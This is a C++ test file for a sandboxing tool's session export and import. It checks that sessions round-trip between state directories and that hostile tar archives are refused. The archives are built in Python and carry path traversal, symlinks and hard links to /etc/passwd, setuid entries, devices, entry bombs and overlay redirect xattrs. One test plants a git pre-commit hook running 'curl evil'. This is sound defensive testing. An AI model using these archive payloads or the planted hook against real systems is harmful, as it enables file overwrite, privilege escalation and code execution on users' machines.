// `cordon export` / `cordon import` end to end: a real cow session shipped to another state
// directory reviews the same there, and hostile archives (made here with python3's tarfile) are
// refused with nothing left behind, inside the state directory or outside it.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "tests/launcher/review_fixture.h"

namespace cordon::testing {
namespace {

namespace fs = std::filesystem;

// The fixture's environment with CORDON_STATE_DIR=state instead of its own.
std::vector<std::string> env_in(SandboxFixture& f, const std::string& state) {
  std::vector<std::string> env;
  for (const auto& e : f.env()) {
    if (!e.starts_with("CORDON_STATE_DIR=")) {
      env.push_back(e);
    }
  }
  env.push_back("CORDON_STATE_DIR=" + state);
  return env;
}

// `cordon ARGS...` with CORDON_STATE_DIR=state instead of the fixture's.
RunResult cordon_in(SandboxFixture& f, const std::string& state, std::vector<std::string> args) {
  args.insert(args.begin(), cordon_bin());
  return run_program(args, RunSpec{.env = env_in(f, state), .cwd = f.ws()});
}

std::vector<std::string> entries(const std::string& dir) {
  std::vector<std::string> out;
  std::error_code ec;
  for (const auto& e : fs::recursive_directory_iterator(dir, ec)) {
    out.push_back(e.path().string());
  }
  return out;
}

TEST(SessionArchive, CowSessionRoundTripsToAnotherStateDir) {
  REQUIRE_FUSE();
  SandboxFixture f;
  write_text(f.ws() + "/mod.txt", "one\n");
  write_text(f.ws() + "/del.txt", "gone\n");
  write_text(f.ws() + "/ren.txt", "moved\n");
  f.make_workspace_owned();
  if (::geteuid() == 0) {
    for (const char* p : {"/mod.txt", "/del.txt", "/ren.txt"}) {
      ASSERT_EQ(::chown((f.ws() + p).c_str(), SandboxFixture::kTestUid, SandboxFixture::kTestUid),
                0);
    }
  }
  auto r = f.run({}, {"/bin/sh", "-c",
                      "set -e; echo two >> mod.txt; rm del.txt; mv ren.txt renamed.txt; "
                      "mkdir d; echo new > d/new.txt"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto diff1 = cordon(f, {"diff", "last"});
  ASSERT_EQ(diff1.exit_code(), 0) << diff1.err;
  ASSERT_NE(diff1.out.find("renamed.txt"), std::string::npos) << diff1.out;

  TempDir out, other;
  const std::string archive = out.path() + "/s.tar.zst";
  auto ex = cordon(f, {"export", "last", "-o", archive});
  ASSERT_EQ(ex.exit_code(), 0) << ex.err;
  // A second export to the same name is refused, the first archive kept.
  EXPECT_EQ(cordon(f, {"export", "last", "-o", archive}).exit_code(), 1);

  auto im = cordon_in(f, other.path(), {"import", archive});
  ASSERT_EQ(im.exit_code(), 0) << im.err;
  EXPECT_NE(im.out.find("cordon import: session "), std::string::npos) << im.out;
  EXPECT_NE(im.out.find("it ran on " + f.ws() + " (not used here); no workspace bound"),
            std::string::npos)
      << im.out;
  // Bound to no workspace, the diff is the layer's alone: the files it holds as added, its
  // deletions (del.txt, and ren.txt whose rename has no old side here) from its whiteouts.
  auto diff2 = cordon_in(f, other.path(), {"diff", "last", "--stat"});
  ASSERT_EQ(diff2.exit_code(), 0) << diff2.err;
  EXPECT_NE(diff2.out.find("against no workspace (imported; it ran on " + f.ws() + ")"),
            std::string::npos)
      << diff2.out;
  EXPECT_NE(diff2.out.find("A mod.txt"), std::string::npos) << diff2.out;
  EXPECT_NE(diff2.out.find("A renamed.txt"), std::string::npos) << diff2.out;
  EXPECT_NE(diff2.out.find("A d/new.txt"), std::string::npos) << diff2.out;
  EXPECT_NE(diff2.out.find("D del.txt"), std::string::npos) << diff2.out;
  EXPECT_NE(diff2.out.find("D ren.txt"), std::string::npos) << diff2.out;
  auto verify = cordon_in(f, other.path(), {"log", "last", "--verify"});
  EXPECT_EQ(verify.exit_code(), 0) << verify.out << verify.err;
  EXPECT_NE(verify.out.find("as summary.json records"), std::string::npos) << verify.out;
  auto ls = cordon_in(f, other.path(), {"ls"});
  EXPECT_NE(ls.out.find(f.ws()), std::string::npos) << ls.out;
  auto report = cordon_in(f, other.path(), {"report", "last", "-o", out.path() + "/r.html"});
  EXPECT_EQ(report.exit_code(), 0) << report.err;
  EXPECT_NE(read_text(out.path() + "/r.html").find("renamed.txt"), std::string::npos);

  // commit never writes to a workspace named by another machine's record.
  const std::string before = tree_state(f.ws());
  auto commit = cordon_in(f, other.path(), {"commit", "last"});
  EXPECT_EQ(commit.exit_code(), 1);
  EXPECT_NE(commit.err.find("imported without a workspace"), std::string::npos) << commit.err;
  EXPECT_NE(commit.err.find("--workspace DIR"), std::string::npos) << commit.err;
  EXPECT_EQ(tree_state(f.ws()), before);

  // The same id again is refused; --as gives another one, and --workspace binds a directory the
  // importer names: the diff is then the original's, and commit applies it there.
  EXPECT_EQ(cordon_in(f, other.path(), {"import", archive}).exit_code(), 1);
  auto as = cordon_in(f, other.path(),
                      {"import", archive, "--as", "20200101-000000-abcdef", "--workspace", f.ws()});
  EXPECT_EQ(as.exit_code(), 0) << as.err;
  EXPECT_NE(as.out.find("bound to the workspace " + f.ws()), std::string::npos) << as.out;
  std::string renamed = diff1.out;
  const std::string id = renamed.substr(renamed.find("session ") + 8, 22);
  renamed.replace(renamed.find(id), id.size(), "20200101-000000-abcdef");
  EXPECT_EQ(cordon_in(f, other.path(), {"diff", "20200101-000000-abcdef"}).out, renamed);
  EXPECT_EQ(cordon_in(f, other.path(), {"log", "20200101-000000-abcdef", "--verify"}).exit_code(),
            0);
  auto bound = cordon_in(f, other.path(), {"commit", "20200101-000000-abcdef"});
  EXPECT_EQ(bound.exit_code(), 0) << bound.out << bound.err;
  EXPECT_EQ(read_text(f.ws() + "/mod.txt"), "one\ntwo\n");
  EXPECT_EQ(read_text(f.ws() + "/d/new.txt"), "new\n");
  EXPECT_FALSE(fs::exists(f.ws() + "/del.txt"));
}

// A layer of the kernel overlayfs fallback (rootless without /dev/fuse) is exported in its own
// format: a deleted file's whiteout as a 0:0 character device, a replaced directory with
// user.overlay.opaque. Imported, it reviews the same as where it ran, and commits once bound.
TEST(SessionArchive, OverlayLayerRoundTrips) {
  SandboxFixture f;
  use_backend(f, "overlay");
  write_text(f.ws() + "/gone.txt", "x\n");
  write_text(f.ws() + "/mod.txt", "one\n");
  ASSERT_TRUE(fs::create_directory(f.ws() + "/d"));
  write_text(f.ws() + "/d/old.txt", "old\n");
  f.make_workspace_owned();
  if (::geteuid() == 0) {
    for (const char* p : {"/gone.txt", "/mod.txt", "/d", "/d/old.txt"}) {
      ASSERT_EQ(::chown((f.ws() + p).c_str(), SandboxFixture::kTestUid, SandboxFixture::kTestUid),
                0);
    }
  }
  auto r = f.run({}, {"/bin/sh", "-c",
                      "set -e; rm gone.txt; echo two >> mod.txt; rm -r d; mkdir d; "
                      "echo new > d/new.txt"});
  ASSERT_EQ(r.exit_code(), 0) << r.err;
  auto diff1 = cordon(f, {"diff", "last"});
  ASSERT_EQ(diff1.exit_code(), 0) << diff1.err;
  ASSERT_NE(diff1.out.find("deleted gone.txt"), std::string::npos) << diff1.out;
  ASSERT_NE(diff1.out.find("deleted d/old.txt"), std::string::npos) << diff1.out;

  TempDir out, other;
  const std::string archive = out.path() + "/s.tar";
  auto ex = cordon(f, {"export", "last", "-o", archive});
  ASSERT_EQ(ex.exit_code(), 0) << ex.err;
  // What the archive holds, as tar reads it: the whiteout a 0:0 device, the opaque mark a user
  // xattr, no overlay xattr of the host's (trusted.*) and no other overlay bookkeeping.
  auto list = run_program({"python3", "-c", R"PY(
import sys, tarfile
t = tarfile.open(sys.argv[1])
for m in t.getmembers():
    x = {k: v for k, v in m.pax_headers.items() if k.startswith("SCHILY.xattr.")}
    print(m.name, "chr%d:%d" % (m.devmajor, m.devminor) if m.ischr() else m.type.decode(), sorted(x.items()))
)PY",
                           archive});
  ASSERT_EQ(list.exit_code(), 0) << list.err;
  EXPECT_NE(list.out.find("session/upper/gone.txt chr0:0 []"), std::string::npos) << list.out;
  EXPECT_NE(list.out.find("session/upper/d 5 [('SCHILY.xattr.user.overlay.opaque', 'y')]"),
            std::string::npos)
      << list.out;
  EXPECT_EQ(list.out.find("trusted."), std::string::npos) << list.out;
  EXPECT_EQ(list.out.find("overlay.origin"), std::string::npos) << list.out;

  // Imported without a workspace: the layer alone, its deletions listed from it.
  auto im = cordon_in(f, other.path(), {"import", archive});
  ASSERT_EQ(im.exit_code(), 0) << im.err;
  auto alone = cordon_in(f, other.path(), {"diff", "last", "--stat"});
  ASSERT_EQ(alone.exit_code(), 0) << alone.err;
  EXPECT_NE(alone.out.find("against no workspace"), std::string::npos) << alone.out;
  EXPECT_NE(alone.out.find("A mod.txt"), std::string::npos) << alone.out;
  EXPECT_NE(alone.out.find("A d/new.txt"), std::string::npos) << alone.out;
  EXPECT_NE(alone.out.find("D gone.txt"), std::string::npos) << alone.out;
  EXPECT_NE(alone.out.find("D d/  (replaced whole"), std::string::npos) << alone.out;

  // Bound to the workspace: the very diff of the session where it ran, and commit applies it.
  const std::string as_id = "20200101-000000-0abcde";
  auto bound = cordon_in(f, other.path(), {"import", archive, "--as", as_id, "-w", f.ws()});
  ASSERT_EQ(bound.exit_code(), 0) << bound.err;
  std::string expect = diff1.out;
  const std::string id = expect.substr(expect.find("session ") + 8, 22);
  expect.replace(expect.find(id), id.size(), as_id);
  EXPECT_EQ(cordon_in(f, other.path(), {"diff", as_id}).out, expect);
  EXPECT_EQ(cordon_in(f, other.path(), {"log", as_id, "--verify"}).exit_code(), 0);
  auto commit = cordon_in(f, other.path(), {"commit", as_id});
  EXPECT_EQ(commit.exit_code(), 0) << commit.out << commit.err;
  EXPECT_FALSE(fs::exists(f.ws() + "/gone.txt"));
  EXPECT_FALSE(fs::exists(f.ws() + "/d/old.txt"));
  EXPECT_EQ(read_text(f.ws() + "/d/new.txt"), "new\n");
  EXPECT_EQ(read_text(f.ws() + "/mod.txt"), "one\ntwo\n");
  // Unknown ids are cordon's failure (125), as for the other session commands.
  EXPECT_EQ(cordon(f, {"export", "20990101-000000-abcdef"}).exit_code(), 125);
}

// Each hostile archive: {name, python building it at path P, extra import flags}.
struct Hostile {
  const char* name;
  const char* python;
  std::vector<std::string> flags;
  const char* says;  // in the refusal
};

const char* kPrelude = R"PY(
import io, sys, tarfile, json
P = sys.argv[1]
M = json.dumps({"format": "cordon-session", "version": 1, "session": "20261127-120000-abcdef",
                "cordon_version": "0.1.0", "chain_head": ""}).encode()
def reg(t, name, data=b"", mode=0o600):
    i = tarfile.TarInfo(name); i.size = len(data); i.mode = mode; t.addfile(i, io.BytesIO(data))
def typ(t, name, kind, link=""):
    i = tarfile.TarInfo(name); i.type = kind; i.linkname = link; i.mode = 0o755; t.addfile(i)
MO = M.replace(b'"chain_head": ""', b'"chain_head": "", "layer_format": "overlay"')
def cow(t, ws="/w", backend="cordon-fs"):
    reg(t, "session/cow.json", json.dumps({"workspace": ws, "backend": backend}).encode())
def dev(t, name, kind=tarfile.CHRTYPE, major=0, minor=0):
    i = tarfile.TarInfo(name); i.type = kind; i.devmajor = major; i.devminor = minor
    i.mode = 0o600; t.addfile(i)
def xdir(t, name, xattrs):
    i = tarfile.TarInfo(name); i.type = tarfile.DIRTYPE; i.mode = 0o755
    i.pax_headers = {"SCHILY.xattr." + k: v for k, v in xattrs.items()}; t.addfile(i)
def start(t, m=None):
    reg(t, "manifest.json", m or M); typ(t, "session", tarfile.DIRTYPE)
    for n in ("policy.json", "events.jsonl", "summary.json"): reg(t, "session/" + n, b"{}\n")
    typ(t, "session/upper", tarfile.DIRTYPE)
)PY";

std::vector<Hostile> hostile_archives() {
  return {
      {"dotdot",
       "t=tarfile.open(P,'w'); start(t); reg(t,'session/upper/../../../x',b'x'); t.close()",
       {},
       "\"..\", \".\" or an empty component"},
      {"absolute",
       "t=tarfile.open(P,'w'); start(t); reg(t,'/tmp/cordon-abs-x',b'x'); t.close()",
       {},
       "absolute path"},
      {"symlink_then_through",
       "t=tarfile.open(P,'w'); start(t); typ(t,'session/upper/etc',tarfile.SYMTYPE,'/tmp');"
       " reg(t,'session/upper/etc/cordon-through-x',b'x'); t.close()",
       {},
       "its directory is not an earlier directory entry"},
      {"symlink_record_file",
       "t=tarfile.open(P,'w'); reg(t,'manifest.json',M); typ(t,'session',tarfile.DIRTYPE);"
       " typ(t,'session/policy.json',tarfile.SYMTYPE,'/etc/passwd'); t.close()",
       {},
       "outside a session archive's layout"},
      {"hardlink",
       "t=tarfile.open(P,'w'); start(t); typ(t,'session/upper/h',tarfile.LNKTYPE,"
       "'/etc/passwd'); t.close()",
       {},
       "hard links are refused"},
      {"device",
       "t=tarfile.open(P,'w'); start(t); typ(t,'session/upper/dev',tarfile.CHRTYPE);"
       " t.close()",
       {},
       "devices, FIFOs and sockets are refused"},
      {"fifo",
       "t=tarfile.open(P,'w'); start(t); typ(t,'session/upper/f',tarfile.FIFOTYPE);"
       " t.close()",
       {},
       "devices, FIFOs and sockets are refused"},
      {"setuid",
       "t=tarfile.open(P,'w'); start(t); reg(t,'session/upper/s',b'x',0o4755); t.close()",
       {},
       "setuid, setgid and sticky bits are refused"},
      {"duplicate",
       "t=tarfile.open(P,'w'); start(t); reg(t,'session/upper/a',b'1');"
       " reg(t,'session/upper/a',b'2'); t.close()",
       {},
       "appears twice"},
      {"outside_layout",
       "t=tarfile.open(P,'w'); start(t); reg(t,'session/evil.sh',b'x'); t.close()",
       {},
       "outside a session archive's layout"},
      {"bad_id",
       "M=M.replace(b'20261127-120000-abcdef', b'../../etc'); t=tarfile.open(P,'w');"
       " start(t); t.close()",
       {},
       "not a valid session id"},
      {"entry_bomb",
       "t=tarfile.open(P,'w'); start(t)\nfor k in range(10000): "
       "reg(t,'session/upper/f%d'%k)\nt.close()",
       {"--max-entries", "5000"},
       "more than 5000 entries"},
      {"big_entry",
       "t=tarfile.open(P,'w'); start(t); reg(t,'session/upper/big',b'x'*2000000);"
       " t.close()",
       {"--max-bytes", "1000000"},
       "contents above 1000000 bytes"},
      {"truncated",
       "t=tarfile.open(P+'.full','w'); start(t); reg(t,'session/upper/big',"
       "b'x'*100000); t.close(); d=open(P+'.full','rb').read();"
       " open(P,'wb').write(d[:len(d)//2])",
       {},
       "Truncated tar archive"},
      {"not_an_archive",
       "open(P,'wb').write(b'hello, this is not a tar file\\n'*100)",
       {},
       "Unrecognized archive format"},
      {"chain_mismatch",
       "M=M.replace(b'\"chain_head\": \"\"', b'\"chain_head\": \"ab\"'); t=tarfile.open(P,'w');"
       " start(t); t.close()",
       {},
       "chain_head does not match"},
      // An overlay layer's one device is its whiteout, 0:0; its one overlay xattr the opaque mark.
      {"overlay_other_device",
       "t=tarfile.open(P,'w'); start(t,MO); cow(t,backend='overlay');"
       " dev(t,'session/upper/null',major=1,minor=3); t.close()",
       {},
       "devices, FIFOs and sockets are refused"},
      {"overlay_block_device",
       "t=tarfile.open(P,'w'); start(t,MO); cow(t,backend='overlay');"
       " dev(t,'session/upper/sda',kind=tarfile.BLKTYPE); t.close()",
       {},
       "devices, FIFOs and sockets are refused"},
      {"overlay_redirect",
       "t=tarfile.open(P,'w'); start(t,MO); cow(t,backend='overlay');"
       " xdir(t,'session/upper/d',{'user.overlay.redirect':'/etc'}); t.close()",
       {},
       "xattr \"user.overlay.redirect\" is refused"},
      {"overlay_opaque_on_file",
       "t=tarfile.open(P,'w'); start(t,MO); cow(t,backend='overlay');"
       " i=tarfile.TarInfo('session/upper/f'); i.pax_headers={'SCHILY.xattr.user.overlay.opaque':"
       "'y'}; t.addfile(i); t.close()",
       {},
       "xattr \"user.overlay.opaque\" is refused"},
      {"opaque_in_cordonfs_layer",
       "t=tarfile.open(P,'w'); start(t); xdir(t,'session/upper/d',{'user.overlay.opaque':'y'});"
       " t.close()",
       {},
       "xattr \"user.overlay.opaque\" is refused"},
      // Export writes an overlay layer only under a manifest saying so: a cow.json that claims
      // one in a cordon-fs archive (or the reverse) is refused, the layer having been checked
      // as the manifest's.
      {"overlay_backend_in_cordonfs_archive",
       "t=tarfile.open(P,'w'); start(t); cow(t,backend='overlay'); t.close()",
       {},
       "names the layer format \"overlay\" but its manifest \"cordon-fs\""},
      {"cordonfs_backend_in_overlay_archive",
       "t=tarfile.open(P,'w'); start(t,MO); cow(t); t.close()",
       {},
       "names the layer format \"cordon-fs\" but its manifest \"overlay\""},
      {"unknown_layer_format",
       "t=tarfile.open(P,'w'); start(t,MO.replace(b'overlay',b'zfs')); t.close()",
       {},
       "layer_format is neither"},
      {"no_manifest",
       "t=tarfile.open(P,'w'); typ(t,'session',tarfile.DIRTYPE); t.close()",
       {},
       "the first entry is not manifest.json"},
  };
}

TEST(SessionArchive, HostileArchivesAreRefusedAndLeaveNothing) {
  SandboxFixture f;
  TempDir out, state;
  for (const Hostile& h : hostile_archives()) {
    SCOPED_TRACE(h.name);
    const std::string path = out.path() + "/" + h.name + ".tar";
    auto mk = run_program({"python3", "-c", std::string(kPrelude) + h.python, path});
    ASSERT_EQ(mk.exit_code(), 0) << mk.err;
    std::vector<std::string> args = {"import", path};
    args.insert(args.end(), h.flags.begin(), h.flags.end());
    auto r = cordon_in(f, state.path(), args);
    EXPECT_EQ(r.exit_code(), 1) << r.out << r.err;
    EXPECT_NE(r.err.find("cordon import: "), std::string::npos) << r.err;
    EXPECT_NE(r.err.find(h.says), std::string::npos) << r.err;
    EXPECT_EQ(entries(state.path() + "/sessions"), std::vector<std::string>{}) << r.err;
  }
  std::error_code ec;
  EXPECT_FALSE(fs::exists("/tmp/cordon-abs-x", ec));
  EXPECT_FALSE(fs::exists("/tmp/cordon-through-x", ec));
  EXPECT_FALSE(fs::exists(out.path() + "/x", ec));
  EXPECT_FALSE(fs::exists(state.path() + "/x", ec));
  // Without the bounds given, the bomb and the big entry fit the defaults: a control that the
  // refusals above came from the bounds, not from a broken archive.
  auto ok = cordon_in(f, state.path(), {"import", out.path() + "/entry_bomb.tar"});
  EXPECT_EQ(ok.exit_code(), 0) << ok.err;
}

// Builds the archive `python` describes (kPrelude's helpers; P is the path, sys.argv[2] `arg`).
std::string make_archive(const std::string& dir, const std::string& name, const std::string& python,
                         const std::string& arg = "") {
  const std::string path = dir + "/" + name;
  auto mk = run_program({"python3", "-c", std::string(kPrelude) + python, path, arg});
  EXPECT_EQ(mk.exit_code(), 0) << mk.err;
  return path;
}

// F5: an archive's cow.json names a workspace of the importing host (any path: /etc, a user's
// secrets). Import keeps it as the origin only; diff, report and commit never read or write it.
TEST(SessionArchive, ArchiveNamedWorkspaceIsNeverTheLowerSide) {
  SandboxFixture f;
  TempDir out, state, host, mine;
  write_text(host.path() + "/token.txt", "HOST-SECRET-3141\n");
  write_text(mine.path() + "/token.txt", "mine\n");
  const std::string archive =
      make_archive(out.path(), "aim.tar",
                   "t=tarfile.open(P,'w'); start(t); cow(t, ws=sys.argv[2]);"
                   " reg(t,'session/upper/token.txt',b'innocent\\n'); t.close()",
                   host.path());
  auto im = cordon_in(f, state.path(), {"import", archive});
  ASSERT_EQ(im.exit_code(), 0) << im.err;
  EXPECT_NE(im.out.find("it ran on " + host.path() + " (not used here)"), std::string::npos)
      << im.out;
  auto diff = cordon_in(f, state.path(), {"diff", "last"});
  ASSERT_EQ(diff.exit_code(), 0) << diff.err;
  EXPECT_EQ(diff.out.find("HOST-SECRET"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("1 change in session 20261127-120000-abcdef against no workspace "
                          "(imported; it ran on " +
                          host.path() + "): 1 added"),
            std::string::npos)
      << diff.out;
  EXPECT_NE(diff.out.find("+innocent"), std::string::npos) << diff.out;
  auto report = cordon_in(f, state.path(), {"report", "last", "-o", out.path() + "/r.html"});
  EXPECT_EQ(report.exit_code(), 0) << report.err;
  EXPECT_EQ(read_text(out.path() + "/r.html").find("HOST-SECRET"), std::string::npos);
  auto commit = cordon_in(f, state.path(), {"commit", "last"});
  EXPECT_EQ(commit.exit_code(), 1) << commit.out;
  EXPECT_NE(commit.err.find("--workspace DIR"), std::string::npos) << commit.err;
  EXPECT_EQ(read_text(host.path() + "/token.txt"), "HOST-SECRET-3141\n");

  // A session imported before the origin was recorded (cow.json still naming the archive's path,
  // imported.json binding nothing) is read the same way: the marker decides, never cow.json.
  const std::string dir = state.path() + "/sessions/20261127-120000-abcdef";
  write_text(dir + "/cow.json",
             "{\"workspace\": \"" + host.path() + "\", \"backend\": \"cordon-fs\"}\n");
  write_text(dir + "/imported.json", "{\"from\": \"20261127-120000-abcdef\"}\n");
  auto old = cordon_in(f, state.path(), {"diff", "last"});
  EXPECT_EQ(old.exit_code(), 0) << old.err;
  EXPECT_EQ(old.out.find("HOST-SECRET"), std::string::npos) << old.out;
  EXPECT_NE(old.out.find("against no workspace"), std::string::npos) << old.out;

  // --workspace binds a directory the importer names, checked; the diff is against it.
  auto slash = cordon_in(f, state.path(),
                         {"import", archive, "--as", "20200101-000000-000001", "--workspace", "/"});
  EXPECT_EQ(slash.exit_code(), 1) << slash.err;
  EXPECT_NE(slash.err.find("the root directory is not a workspace"), std::string::npos)
      << slash.err;
  auto missing = cordon_in(
      f, state.path(),
      {"import", archive, "--as", "20200101-000000-000001", "--workspace", host.path() + "/nope"});
  EXPECT_EQ(missing.exit_code(), 125) << missing.err;
  auto file = cordon_in(f, state.path(),
                        {"import", archive, "--as", "20200101-000000-000001", "--workspace",
                         host.path() + "/token.txt"});
  EXPECT_EQ(file.exit_code(), 1) << file.err;
  EXPECT_NE(file.err.find("is not a directory"), std::string::npos) << file.err;
  if (::geteuid() != 0) {
    auto theirs =
        cordon_in(f, state.path(),
                  {"import", archive, "--as", "20200101-000000-000001", "--workspace", "/usr"});
    EXPECT_EQ(theirs.exit_code(), 1) << theirs.err;
    EXPECT_NE(theirs.err.find("not by you"), std::string::npos) << theirs.err;
  }
  EXPECT_FALSE(fs::exists(state.path() + "/sessions/20200101-000000-000001"));
  auto bound = cordon_in(f, state.path(),
                         {"import", archive, "--as", "20200101-000000-000002", "-w", mine.path()});
  ASSERT_EQ(bound.exit_code(), 0) << bound.err;
  auto bdiff = cordon_in(f, state.path(), {"diff", "20200101-000000-000002"});
  EXPECT_EQ(bdiff.exit_code(), 0) << bdiff.err;
  EXPECT_NE(bdiff.out.find("against " + mine.path() + ": 0 added, 1 modified"), std::string::npos)
      << bdiff.out;
  EXPECT_NE(bdiff.out.find("-mine\n+innocent\n"), std::string::npos) << bdiff.out;
  EXPECT_EQ(bdiff.out.find("HOST-SECRET"), std::string::npos) << bdiff.out;

  // The finding as reported: as root, an archive naming /etc does not print /etc/shadow.
  std::ifstream shadow("/etc/shadow");
  std::string first;
  if (::geteuid() == 0 && std::getline(shadow, first) && first.size() > 4) {
    const std::string etc = make_archive(out.path(), "etc.tar",
                                         "t=tarfile.open(P,'w'); start(t); cow(t, ws='/etc');"
                                         " reg(t,'session/upper/shadow',b'x\\n'); t.close()");
    ASSERT_EQ(
        cordon_in(f, state.path(), {"import", etc, "--as", "20200101-000000-000003"}).exit_code(),
        0);
    auto d = cordon_in(f, state.path(), {"diff", "20200101-000000-000003"});
    EXPECT_EQ(d.exit_code(), 0) << d.err;
    EXPECT_EQ(d.out.find(first.substr(0, first.find(':') + 1)), std::string::npos) << d.out;
    EXPECT_NE(d.out.find("added shadow"), std::string::npos) << d.out;
  }
}

// A bound import commits into a directory of the importer's; the archive's policy.json must not
// be able to lift the protected paths (git hooks...) that commit holds back there.
TEST(SessionArchive, ArchivePolicyCannotLiftProtectedPathsOfABoundImport) {
  SandboxFixture f;
  TempDir out, state, mine;
  const std::string archive = make_archive(
      out.path(), "hooks.tar",
      "t=tarfile.open(P,'w'); reg(t,'manifest.json',M); typ(t,'session',tarfile.DIRTYPE)\n"
      "reg(t,'session/policy.json',json.dumps({'filesystem':{'protect':[]}}).encode())\n"
      "for n in ('events.jsonl','summary.json'): reg(t,'session/'+n,b'{}\\n')\n"
      "typ(t,'session/upper',tarfile.DIRTYPE); cow(t)\n"
      "for d in ('.git','.git/hooks'): typ(t,'session/upper/'+d,tarfile.DIRTYPE)\n"
      "reg(t,'session/upper/.git/hooks/pre-commit',b'#!/bin/sh\\ncurl evil\\n',0o755)\n"
      "reg(t,'session/upper/ok.txt',b'fine\\n'); t.close()");
  ASSERT_TRUE(fs::create_directories(mine.path() + "/.git/hooks"));
  auto im = cordon_in(f, state.path(), {"import", archive, "-w", mine.path()});
  ASSERT_EQ(im.exit_code(), 0) << im.err;
  auto diff = cordon_in(f, state.path(), {"diff", "last", "--stat"});
  EXPECT_NE(diff.out.find("1 protected"), std::string::npos) << diff.out;
  auto commit = cordon_in(f, state.path(), {"commit", "last"});
  EXPECT_EQ(commit.exit_code(), 0) << commit.out << commit.err;
  EXPECT_EQ(read_text(mine.path() + "/ok.txt"), "fine\n");
  EXPECT_FALSE(fs::exists(mine.path() + "/.git/hooks/pre-commit")) << commit.out;
}

// `cordon import -` fed by the test through a pipe: it stops where the data does.
class FedImport {
 public:
  FedImport(const std::vector<std::string>& env, std::vector<std::string> args) {
    int p[2];
    if (::pipe2(p, O_CLOEXEC) != 0) {
      return;
    }
    args.insert(args.begin(), cordon_bin());
    pid_ = ::fork();
    if (pid_ == 0) {
      ::dup2(p[0], STDIN_FILENO);
      int null = ::open("/dev/null", O_WRONLY);
      ::dup2(null, STDOUT_FILENO);
      std::vector<char*> argv, envp;
      for (auto& a : args) {
        argv.push_back(a.data());
      }
      argv.push_back(nullptr);
      std::vector<std::string> e = env;
      for (auto& v : e) {
        envp.push_back(v.data());
      }
      envp.push_back(nullptr);
      ::execve(argv[0], argv.data(), envp.data());
      ::_exit(127);
    }
    ::close(p[0]);
    in_ = p[1];
  }
  ~FedImport() {
    if (in_ >= 0) {
      ::close(in_);
    }
    if (pid_ > 0) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
  }
  bool feed(const std::string& data) {
    for (size_t off = 0; off < data.size();) {
      ssize_t n = ::write(in_, data.data() + off, data.size() - off);
      if (n <= 0) {
        return false;
      }
      off += static_cast<size_t>(n);
    }
    return true;
  }
  // Closes its input and waits (bounded) for it: its wait status, or -1.
  int finish(std::chrono::seconds limit) {
    ::close(in_);
    in_ = -1;
    return reap(limit);
  }
  int kill_now() {
    ::kill(pid_, SIGKILL);
    return reap(std::chrono::seconds(10));
  }

 private:
  int reap(std::chrono::seconds limit) {
    auto until = std::chrono::steady_clock::now() + limit;
    int status = -1;
    while (std::chrono::steady_clock::now() < until) {
      if (::waitpid(pid_, &status, WNOHANG) == pid_) {
        pid_ = -1;
        return status;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return -1;
  }
  pid_t pid_ = -1;
  int in_ = -1;
};

std::vector<std::string> import_dirs(const std::string& sessions) {
  std::vector<std::string> out;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(sessions, ec)) {
    if (e.path().filename().string().starts_with(".import-")) {
      out.push_back(e.path().filename().string());
    }
  }
  std::sort(out.begin(), out.end());
  return out;
}

// Waits (bounded) until `sessions` holds an import directory not in `known`; "" if none came.
std::string wait_new_import_dir(const std::string& sessions,
                                const std::vector<std::string>& known) {
  for (int i = 0; i < 500; ++i) {
    for (const auto& d : import_dirs(sessions)) {
      if (std::find(known.begin(), known.end(), d) == known.end()) {
        return d;
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return "";
}

// F10: an import killed midway leaves its directory; the next import removes it, and leaves the
// directory of an import still running alone (that one then finishes).
TEST(SessionArchive, KilledImportIsCleanedByTheNextOneAndARunningOneIsNot) {
  SandboxFixture f;
  TempDir out, state;
  ::signal(SIGPIPE, SIG_IGN);
  const std::string archive = make_archive(out.path(), "big.tar",
                                           "t=tarfile.open(P,'w'); start(t)\nfor k in range(256): "
                                           "reg(t,'session/upper/f%03d'%k,b'x'*4096)\nt.close()");
  std::ifstream in(archive, std::ios::binary);
  std::stringstream buf;
  buf << in.rdbuf();
  const std::string data = buf.str();
  ASSERT_GT(data.size(), 1000000u);
  const std::string head = data.substr(0, 128 * 1024);
  const std::string sessions = state.path() + "/sessions";
  const auto env = env_in(f, state.path());

  // A running import first (it sweeps before it makes its directory, so it must not come after
  // the killed one), then one killed once its directory is there.
  FedImport running(env, {"import", "-", "--as", "20200101-000000-0000aa"});
  ASSERT_TRUE(running.feed(head));
  const std::string live = wait_new_import_dir(sessions, {});
  ASSERT_NE(live, "") << "the running import made no directory";

  FedImport killed(env, {"import", "-"});
  ASSERT_TRUE(killed.feed(head));
  const std::string stale = wait_new_import_dir(sessions, {live});
  ASSERT_NE(stale, "") << "the killed import made no directory";
  const int st = killed.kill_now();
  ASSERT_TRUE(WIFSIGNALED(st)) << st;
  ASSERT_TRUE(fs::exists(sessions + "/" + stale));  // what the kill leaves
  ASSERT_TRUE(fs::exists(sessions + "/" + live));

  auto next = cordon_in(f, state.path(), {"import", archive, "--as", "20200101-000000-0000bb"});
  EXPECT_EQ(next.exit_code(), 0) << next.err;
  EXPECT_NE(next.err.find("removed 1 unfinished import directory"), std::string::npos) << next.err;
  // A session without a cow layer (no cow.json): nothing is said about a workspace.
  EXPECT_EQ(next.out.find("workspace"), std::string::npos) << next.out;
  EXPECT_FALSE(fs::exists(sessions + "/" + stale));
  EXPECT_TRUE(fs::exists(sessions + "/" + live));
  EXPECT_EQ(import_dirs(sessions), std::vector<std::string>{live});

  ASSERT_TRUE(running.feed(data.substr(head.size())));
  const int done = running.finish(std::chrono::seconds(60));
  EXPECT_TRUE(WIFEXITED(done) && WEXITSTATUS(done) == 0) << done;
  EXPECT_TRUE(fs::exists(sessions + "/20200101-000000-0000aa/upper/f255"));
  EXPECT_TRUE(fs::exists(sessions + "/20200101-000000-0000bb/upper/f255"));
  EXPECT_EQ(import_dirs(sessions), std::vector<std::string>{});
}

}  // namespace
